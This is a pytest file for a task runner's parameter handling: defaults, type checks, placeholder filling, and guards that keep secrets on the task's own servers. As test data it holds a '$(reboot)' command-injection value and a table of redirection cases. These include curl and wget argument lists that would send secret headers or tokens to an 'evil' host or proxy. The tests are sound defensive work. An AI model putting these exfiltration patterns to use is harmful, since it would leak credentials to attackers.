"""Parameters: defaults, what a start may give, and where the values go."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.cases import for_each
from tests.tasks.scene import keep, noop, runs_of
from weft.app import App
from weft.errors import Invalid
from weft.runs.model import Trigger
from weft.tasks.model import Task, fill, from_text, resolve

KEY = {"X-Shop": "{{secret:TOKEN}}"}


def test_a_value_that_is_given_wins_over_the_default() -> None:
    assert resolve({"a": 1, "b": "x"}, {"a": 2}, "p/t") == {"a": 2, "b": "x"}


def test_an_unknown_parameter_is_refused_with_those_that_are_known() -> None:
    with pytest.raises(Invalid, match="parameter of p/t is 'c'; the task has these: a, b"):
        resolve({"b": 1, "a": 1}, {"c": 1}, "p/t")
    with pytest.raises(Invalid, match="the task has these: none"):
        resolve({}, {"c": 1}, "p/t")


def test_an_open_parameter_must_be_given() -> None:
    with pytest.raises(Invalid, match="parameter day of p/t is None; it has no default, so it must be given"):
        resolve({"day": None}, {}, "p/t")
    assert resolve({"day": None}, {"day": "monday"}, "p/t") == {"day": "monday"}


@for_each(
    ("default", "value", "kind"),
    [
        (1, "1", "a whole number"),
        (1, 1.5, "a whole number"),
        (1, True, "a whole number"),
        (1.5, "x", "a number"),
        (1.5, False, "a number"),
        (True, 1, "true or false"),
        ("a", 1, "a text"),
        ([1], "x", "a list"),
        ({"a": 1}, [1], "a table"),
    ],
)
def test_a_value_must_be_of_its_default_s_type(default: Any, value: Any, kind: str) -> None:
    with pytest.raises(Invalid, match=f"it must be of the type of its default, {kind}"):
        resolve({"a": default}, {"a": value}, "p/t")


def test_a_whole_number_is_a_number() -> None:
    assert resolve({"a": 1.5}, {"a": 2}, "p/t") == {"a": 2.0}


def test_values_go_wherever_their_name_stands() -> None:
    spec = {
        "argv": ["get", "--url={{url}}", "{{ url }}"],
        "headers": {"X-N": "{{n}} of {{n}}"},
        "deep": [{"a": ["{{n}}"]}],
    }
    assert fill(spec, {"url": "http://x", "n": 5}) == {
        "argv": ["get", "--url=http://x", "http://x"],
        "headers": {"X-N": "5 of 5"},
        "deep": [{"a": [5]}],
    }


@for_each("value", [5, 2.5, True, [1, "a"], {"a": 1}, "text"])
def test_a_name_that_stands_alone_keeps_the_type_of_its_value(value: Any) -> None:
    assert fill({"field": "{{a}}"}, {"a": value}) == {"field": value}


@pytest.mark.parametrize(("value", "text"), [(5, "5"), (2.5, "2.5"), (True, "true"), ([1, "a"], '[1,"a"]'), ("é", "é")])
def test_what_may_only_be_text_gets_text(value: Any, text: str) -> None:
    spec = {"argv": ["do", "{{a}}"], "env": {"A": "{{a}}"}, "headers": {"X-A": "{{a}}"}}
    assert fill(spec, {"a": value}) == {"argv": ["do", text], "env": {"A": text}, "headers": {"X-A": text}}


def test_a_script_is_never_written_into() -> None:
    assert fill({"script": "echo {{a}}"}, {"a": "$(reboot)"}) == {"script": "echo {{a}}"}


def test_a_name_that_is_no_parameter_is_refused() -> None:
    with pytest.raises(Invalid, match=r"placeholder is '\{\{b\}\}'; the task has these parameters: a"):
        fill({"x": "{{a}} {{b}}"}, {"a": 1})
    with pytest.raises(Invalid, match="the task has these parameters: none"):
        fill({"x": ["{{b}}"]}, {})


@given(st.text())
def test_a_value_is_not_read_as_a_pattern_or_filled_again(value: str) -> None:
    assert fill({"x": "<{{a}}>", "y": "{{a}}"}, {"a": value}) == {"x": f"<{value}>", "y": value}


@pytest.mark.parametrize(
    ("text", "values"),
    [
        ("https://{{host}}{{path}}", {"host": "elsewhere/{{sec", "path": "ret:TOKEN}}"}),
        ("{{{{host}}}}", {"host": "secret:TOKEN"}),
        ("{{secret:{{host}}}}", {"host": "TOKEN"}),
    ],
)
def test_values_cannot_name_a_secret_together_with_what_is_around_them(text: str, values: dict[str, str]) -> None:
    given = resolve(dict.fromkeys(values, ""), values, "p/t")
    with pytest.raises(Invalid, match="only the task itself may name a secret"):
        fill({"url": text}, given)


def test_a_task_names_secrets_in_its_spec_and_in_defaults() -> None:
    spec = {"url": "https://{{host}}/?t={{secret:TOKEN}}"}
    assert fill(spec, {"host": "{{secret:HOST}}"}) == {"url": "https://{{secret:HOST}}/?t={{secret:TOKEN}}"}


CURL = ["curl", "-H", "X-Key: {{secret:T}}"]
STEERED: dict[str, tuple[str, dict[str, Any], dict[str, Any], dict[str, Any]]] = {
    "the host": ("http", {"url": "https://{{host}}/p", "headers": KEY}, {"host": "a.example"}, {"host": "evil"}),
    "all of it": ("http", {"url": "{{url}}", "body": "{{secret:T}}"}, {"url": None}, {"url": "https://evil/"}),
    "after the host": ("http", {"url": "https://a.example{{path}}", "headers": KEY}, {"path": ""}, {"path": "@evil/"}),
    "the scheme": ("http", {"url": "{{s}}://a.example/", "headers": KEY}, {"s": "https"}, {"s": "http"}),
    "the port": ("http", {"url": "http://a.example:{{port}}/", "headers": KEY}, {"port": 80}, {"port": 8080}),
    "a secret in the URL": ("http", {"url": "https://{{host}}/?t={{secret:T}}"}, {"host": "a"}, {"host": "evil"}),
    "a login": ("http", {"url": "https://me:pw@{{host}}/"}, {"host": "a.example"}, {"host": "evil"}),
    "a header as it is": ("http", {"url": "https://{{h}}/", "headers": {"X-Api-Key": "k"}}, {"h": "a"}, {"h": "evil"}),
    "a default": ("http", {"url": "//{{h}}/", "body": "{{b}}"}, {"h": "a", "b": "{{secret:T}}"}, {"h": "e"}),
    "a token": ("http", {"url": "//{{h}}/", "body": "{{token}}"}, {"h": "a", "token": "as it is"}, {"h": "e"}),
    "a crawl": ("crawl", {"urls": ["{{url}}"], "fetching": {"password": "{{secret:T}}"}}, {"url": "https://a.example/"},
                {"url": "https://evil/"}),
    "one more seed": ("crawl", {"urls": "{{urls}}", "fetching": {"headers": KEY}}, {"urls": ["https://a.example/"]},
                      {"urls": ["https://a.example/x", "https://evil/"]}),
    "a URL of a command": ("shell", {"argv": [*CURL, "https://{{h}}/p"]}, {"h": "a.example"}, {"h": "evil"}),
    "all of a URL of a command": ("shell", {"argv": [*CURL, "{{u}}"]}, {"u": "https://a.example/"}, {"u": "https://e/"}),
    "a URL that is none": ("shell", {"argv": [*CURL, "{{u}}"]}, {"u": "https://a.example/"}, {"u": "evil"}),
    "a URL with one slash": ("shell", {"argv": [*CURL, "{{u}}"]}, {"u": "https://a.example/"}, {"u": "http:/evil"}),
    "a URL in an option": ("shell", {"argv": [*CURL, "--url=https://{{h}}"]}, {"h": "a.example"}, {"h": "evil"}),
    "a proxy of a command": ("shell", {"argv": [*CURL, "-x{{p}}", "https://a/"]}, {"p": ""}, {"p": "socks5://evil"}),
    "a command with a login": ("shell", {"argv": ["wget", "ftp://me:pw@{{h}}/"]}, {"h": "a.example"}, {"h": "evil"}),
    "the environment": ("shell", {"script": "x", "env": {"T": "{{secret:T}}", "AT": "https://{{h}}/"}}, {"h": "a"},
                        {"h": "evil"}),
}  # fmt: skip


@pytest.mark.parametrize(("kind", "spec", "defaults", "given"), STEERED.values(), ids=STEERED)
def test_a_start_cannot_send_a_secret_to_another_server(
    kind: str, spec: dict[str, Any], defaults: dict[str, Any], given: dict[str, Any]
) -> None:
    task = Task(name="t", kind=kind, spec=spec, params=defaults)
    with pytest.raises(Invalid, match="the task has secrets, which go only to the servers that it names itself"):
        task.new_run(1, Trigger.MANUAL, given)


def test_a_start_may_change_what_sends_no_secret_elsewhere() -> None:
    spec = {"url": "https://{{host}}/{{page}}?q={{page}}", "headers": KEY}
    task = Task(name="t", kind="http", spec=spec, params={"host": "a.example", "page": None})
    run = task.new_run(1, Trigger.MANUAL, {"host": "a.example", "page": "x//evil.example/"})
    assert run.spec.spec["url"] == "https://a.example/x//evil.example/?q=x//evil.example/"
    public = Task(name="t", kind="http", spec={"url": "https://{{host}}/"}, params={"host": "a.example"})
    assert public.new_run(1, Trigger.MANUAL, {"host": "b.example"}).spec.spec["url"] == "https://b.example/"


def test_braces_that_name_nothing_stay() -> None:
    assert fill({"x": "{} {{}} {a} {{ }} ${a}"}, {}) == {"x": "{} {{}} {a} {{ }} ${a}"}


@for_each(
    ("text", "default", "value"),
    [
        ("5", 1, 5),
        ("5", "a", "5"),
        ("5", 1.5, 5),
        ("true", False, True),
        ("[1, 2]", [], [1, 2]),
        ("plain", None, "plain"),
        ("5", None, 5),
        ("not a number", 1, "not a number"),
        ("", "a", ""),
    ],
)
def test_a_typed_value_takes_the_type_of_its_default(text: str, default: Any, value: Any) -> None:
    assert from_text(text, default) == value


@for_each("name", ["", "a b", "a-b", "1a", "a.b", "{{"])
def test_a_parameter_s_name_is_letters_digits_and_underscores(name: str) -> None:
    with pytest.raises(Invalid, match=r"parameter is .*; it must be a name of letters, digits and '_'"):
        noop("t", params={name: 1})


@pytest.mark.parametrize("database_kind", ["sqlite"])
class TestOnATask:
    """How parameters reach the runs of a stored task."""

    async def test_a_run_carries_its_values_and_the_filled_spec(self, app: App) -> None:
        await keep(app, noop("t", spec={"fail": "on {{day}}"}, params={"day": "monday", "n": 1}))
        await app.tasks.start("default", "t", {"day": "friday"})
        (run,) = await runs_of(app, "t")
        assert (run.spec.spec, run.spec.params) == ({"fail": "on friday"}, {"day": "friday", "n": 1})

    async def test_a_spec_is_checked_with_its_defaults(self, app: App) -> None:
        with pytest.raises(Invalid, match="sleep_seconds is 'long'"):
            await keep(app, noop("t", spec={"sleep_seconds": "{{n}}"}, params={"n": "long"}))
        await keep(app, noop("t", spec={"sleep_seconds": "{{n}}"}, params={"n": 5, "open": None}))

    async def test_what_an_open_parameter_decides_is_checked_at_the_start(self, app: App) -> None:
        await keep(app, noop("t", spec={"sleep_seconds": "{{n}}"}, params={"n": None}))
        with pytest.raises(Invalid, match="parameter n of default/t is None"):
            await app.tasks.start("default", "t")
        with pytest.raises(Invalid, match="sleep_seconds is 'long'"):
            await app.tasks.start("default", "t", {"n": "long"})
        assert (await app.tasks.start("default", "t", {"n": 0})).fresh

    async def test_an_open_parameter_hides_no_other_mistake(self, app: App) -> None:
        for spec in ({"typo": 1, "fail": "{{a}}"}, {"fail": "{{a}} {{b}}"}, {"fail": "{{a}}", "sleep_seconds": "long"}):
            with pytest.raises(Invalid):
                await keep(app, noop("t", spec=spec, params={"a": None}))
        with pytest.raises(Invalid, match="kind is 'nothing'"):
            await keep(app, Task(name="t", kind="nothing", params={"a": None}))
